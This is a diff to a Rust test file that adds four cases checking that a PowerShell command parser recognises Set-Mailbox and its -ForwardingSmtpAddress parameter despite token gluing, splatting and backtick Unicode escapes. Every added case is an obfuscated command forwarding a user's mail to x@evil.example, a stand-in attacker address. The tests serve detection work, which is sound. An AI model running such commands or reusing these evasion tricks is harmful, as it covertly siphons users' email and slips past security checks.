@@ -1095,6 +1095,26 @@ fn glued_tokens_show_the_parameter_powershell_binds() {
             "ForEach-Object",
             "-MemberName",
         ),
+        (
+            "& 'Set-Mailbox'-ForwardingSmtpAddress x@evil.example -Identity bob",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $x.Name-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "$h = @{ \"Forwarding`u{53}mtpAddress\" = 'x@evil.example' }; Set-Mailbox bob @h",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "& \"Set-Mailbo`u{78}\" bob -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
     ];
     let mut failures = Vec::new();
     for (line, name, param) in cases {
